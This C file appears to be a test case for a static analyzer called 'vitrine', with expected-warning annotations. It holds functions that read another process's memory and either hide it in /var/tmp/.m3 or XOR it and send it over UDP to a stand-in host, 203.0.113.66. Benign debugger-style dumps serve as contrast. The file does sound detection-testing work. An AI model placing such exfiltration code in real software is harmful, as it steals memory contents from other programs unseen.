/* Memory of another process: into a hidden file and onto the wire, or onto the user's screen. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <stdio.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/types.h>
#include <sys/uio.h>
#include <unistd.h>

static ssize_t peer_memory(pid_t pid, unsigned long from, void *block, size_t size) {
    struct iovec here = {block, size}, there = {(void *)from, size};
    return process_vm_readv(pid, &here, 1, &there, 1, 0);
}

int bad_keep(pid_t pid, unsigned long from) {
    char block[1024];
    int out = open("/var/tmp/.m3", O_WRONLY | O_APPEND | O_CREAT, 0600);
    if (peer_memory(pid, from, block, sizeof block) < 0)
        return -1;
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/memory-of-others]}}
    return write(out, block, sizeof block) < 0 || close(out);
}

int bad_send(pid_t pid, unsigned long from) {
    char block[1024];
    struct sockaddr_in peer = {.sin_family = AF_INET, .sin_port = htons(443)};
    peer.sin_addr.s_addr = inet_addr("203.0.113.66");
    int out = socket(AF_INET, SOCK_DGRAM, 0);
    if (peer_memory(pid, from, block, sizeof block) < 0)
        return -1;
    for (size_t i = 0; i < sizeof block; i++)
        block[i] ^= 0x99;
    // expected-warning-re@+2 {{{{.*}}[vitrine: exfil/memory-of-others]}}
    // expected-warning-re@+1 {{{{.*}}[vitrine: crypto/homemade-cipher]}}
    sendto(out, block, sizeof block, 0, (struct sockaddr *)&peer, sizeof peer);
    return close(out);
}

/* What a debugger does. */
int good_print(pid_t pid, unsigned long from) {
    unsigned char block[64];
    if (peer_memory(pid, from, block, sizeof block) < 0)
        return -1;
    for (size_t i = 0; i < sizeof block; i++)
        printf("%02x%c", block[i], i % 16 == 15 ? '\n' : ' ');
    return 0;
}

/* The user names the file of a dump. */
int good_dump(pid_t pid, unsigned long from, const char *path) {
    char block[1024];
    int out = open(path, O_WRONLY | O_CREAT, 0600);
    if (peer_memory(pid, from, block, sizeof block) < 0)
        return -1;
    return write(out, block, sizeof block) < 0 || close(out);
}
